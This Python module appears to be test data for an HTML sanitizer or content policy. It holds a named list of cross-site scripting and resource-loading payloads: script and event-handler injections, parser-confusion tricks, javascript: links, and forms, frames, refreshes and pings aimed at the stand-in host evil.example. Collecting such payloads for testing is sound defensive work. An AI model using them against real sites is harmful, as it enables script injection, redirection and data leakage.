"""Markup that belongs in no page: it runs a script, loads something from elsewhere or sends the reader away, if nothing stands in its way."""

from __future__ import annotations

EVIL = "http://evil.example"

RUN = "document.title='hit';void(0)"
"""What a payload runs; a page whose title is 'hit' was entered."""

PAYLOADS: dict[str, str] = {
    "script": f"<script>{RUN}</script>",
    "script in capitals": f"<SCRIPT\n>{RUN}</SCRIPT\n>",
    "script of another server": f'<script src="{EVIL}/a.js"></script>',
    "script from data": f'<script src="data:text/javascript,{RUN}"></script>',
    "module": f'<script type="module">{RUN}</script>',
    "module map": f'<script type="importmap">{{"imports": {{"a": "{EVIL}/a.js"}}}}</script><script type="module">import "a"</script>',
    "onerror": f'<img src="no.png" onerror="{RUN}">',
    "onerror behind a slash": f'<img/src="no.png"/onerror={RUN}>',
    "onload of a drawing": f'<svg onload="{RUN}"></svg>',
    "script in a drawing": f"<svg><script>{RUN}</script></svg>",
    "script of a drawing by entities": "<svg><script>&#100;ocument.title=&apos;hit&apos;</script></svg>",
    "animated link": f'<svg><a id="go"><animate attributeName="href" values="javascript:{RUN}"/><text x="20" y="20">go</text></a></svg>',
    "foreign object": f'<svg><foreignObject><img src="no.png" onerror="{RUN}"></foreignObject></svg>',
    "mathematics": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;"></table></mtext></math>',
    "noscript": f'<noscript><p title="</noscript><img src=no.png onerror={RUN}>"></noscript>',
    "textarea": f'<textarea><p title="</textarea><img src=no.png onerror={RUN}>"></textarea>',
    "title": f'<title><p title="</title><img src=no.png onerror={RUN}>"></title>',
    "early end of a comment": f"<!--><img src=no.png onerror={RUN}>-->",
    "comment with a bang": f"<!-- a --!><img src=no.png onerror={RUN}>-->",
    "section of XML": f"<![CDATA[><img src=no.png onerror={RUN}>]]>",
    "focus": f'<input autofocus onfocus="{RUN}">',
    "unfolding": f'<details open ontoggle="{RUN}"><summary>a</summary></details>',
    "style with an event": f'<p style="animation: fade 1s" onanimationstart="{RUN}">a</p><style>@keyframes fade {{ from {{ opacity: 0 }} }}</style>',
    "javascript link": f'<a id="go" href="javascript:{RUN}">go</a>',
    "javascript link in disguise": f'<a id="go" href=" &#1;java&#10;script&colon;{RUN}">go</a>',
    "javascript form": f'<form action="javascript:{RUN}"><button id="go">go</button></form>',
    "form to another server": f'<form action="{EVIL}/form"><input name="q" value="1"><button id="go">go</button></form>',
    "button to another server": f'<form><button id="go" formaction="{EVIL}/form">go</button></form>',
    "frame": f'<iframe src="{EVIL}/frame"></iframe>',
    "frame with a document": '<iframe srcdoc="<script>parent.document.title=&quot;hit&quot;</script>"></iframe>',
    "frame with a script": "<iframe src=\"javascript:parent.document.title='hit'\"></iframe>",
    "object": f'<object data="{EVIL}/object.svg"></object>',
    "object from data": f'<object data="data:text/html,<img src={EVIL}/a.png>"></object>',
    "embed": f'<embed src="{EVIL}/embed.svg">',
    "base": f'<base href="{EVIL}/"><img src="a.png">',
    "picture of another server": f'<img src="{EVIL}/a.png">',
    "picture set": f'<img srcset="{EVIL}/a.png 2x, {EVIL}/b.png 1x">',
    "film": f'<video src="{EVIL}/a.mp4" poster="{EVIL}/a.png" autoplay></video>',
    "style that asks": f"<style>@import '{EVIL}/a.css'; p {{ background: url({EVIL}/b.png) }}</style><p>a</p>",
    "style of an element": f'<p style="background: url({EVIL}/a.png)">a</p>',
    "style sheet": f'<link rel="stylesheet" href="{EVIL}/a.css">',
    "early fetch": f'<link rel="preload" as="image" href="{EVIL}/a.png"><link rel="prefetch" href="{EVIL}/b.html">',
    "picture in a drawing": f'<svg><image href="{EVIL}/a.png" width="9" height="9"/><use href="{EVIL}/a.svg#b"/></svg>',
    "paint of a drawing": f'<svg><rect width="9" height="9" fill="url({EVIL}/a.svg#b)" filter="url({EVIL}/a.svg#c)"/></svg>',
    "refresh": f'<meta http-equiv="refresh" content="0; url={EVIL}/away">',
    "policy of its own": '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "settings of the theme": '<div id="__config">{"base": "http://evil.example/"}</div>',
    "listening link": f'<a id="go" href="." ping="{EVIL}/ping">go</a>',
}
"""Name -> markup. What has an element with the id `go` is clicked."""

NOT_STOPPED_BY_POLICY = frozenset({"refresh"})
"""No policy keeps a page from being left."""

INERT = frozenset({"animated link", "mathematics", "policy of its own", "settings of the theme"})
"""Payloads that do nothing by themselves: they mislead a filter that writes anew what it read, the theme's script, or an older browser."""
